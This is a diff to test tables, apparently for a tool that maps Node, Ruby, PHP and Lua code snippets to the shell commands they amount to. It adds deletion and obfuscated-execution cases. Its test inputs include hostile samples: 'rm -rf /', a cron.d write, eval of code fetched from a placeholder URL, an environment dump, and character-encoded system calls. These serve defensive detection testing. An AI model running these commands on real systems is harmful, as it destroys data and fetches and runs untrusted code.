@@ -68,6 +68,7 @@ table('node', [
     'switch(x) { case 1: break }\ntry { a() } catch (e) { b() }\nfor (let i=0;i<3;i++) { console.log(i) }',
     [],
   ],
+  ['for (const [k,v] of Object.entries({a:"b"})) require("fs").unlinkSync(v)', ['rm b']],
   ['Bun.spawn(["rm", "-rf", "/"])', ['rm -rf /']],
   ['Deno.removeSync("/x", { recursive: true })', ['rm -r /x']],
   ['require("fs").writeFileSync("/etc/cron.d/x", "y")', ['tee /etc/cron.d/x <<< y']],
@@ -106,6 +107,7 @@ table('ruby', [
   ['a=["rm"]; a << "-rf" << "/"; system(*a)', ['rm -rf /']],
   ['system("ls", "-l", exception: true)', ['ls -l']],
   ['require "open-uri"; eval(URI.open("http://x").read)', ['curl http://x', 'opaque: $(curl http://x)']],
+  ['{a: "b"}.each { |k,v| File.delete(v) }', ['rm b']],
   ['puts ENV.to_h', ['env']],
   ['require "json"; puts JSON.parse(STDIN.read)["x"]', []],
   ['puts [1,2].map { |x| x * 2 }.join(",") if true', []],
@@ -165,6 +167,8 @@ table('php', [
   ['call_user_func("system","id");', ['sh: id']],
   ['class A { function run($c) { return shell_exec($c); } } (new A)->run("id");', ['sh: id']],
   ['$x=[]; $x[]="rm"; $x[]="y"; system(implode(" ", $x));', ['sh: rm y']],
+  ['foreach(["a"=>"b"] as $k => $v) unlink($v);', ['rm b']],
+  ['system(implode(array_map("chr", [105,100])));', ['sh: id']],
   ['ob_start("system"); echo "id";', ['opaque: ob_start(…)']],
   ['preg_replace("/x/e", "system(\'id\')", "x");', ['sh: id']],
   ['file_put_contents("x.php", "<?php system(1);");', ['tee x.php <<< <?php system(1);']],
@@ -180,6 +184,7 @@ table('lua', [
   ['load(string.char(111,115,46,101,120,101,99,117,116,101,40,34,105,100,34,41))()', ['sh: id']],
   ['local function r(c) return os.execute(c) end r("id")', ['sh: id']],
   ['local t={"a"} table.insert(t,"b") os.execute(table.concat(t," "))', ['sh: a b']],
+  ['for k,v in pairs({a="b"}) do os.remove(v) end', ['rm b']],
   ['-- os.execute("x")\nprint("x")', []],
 ]);
 
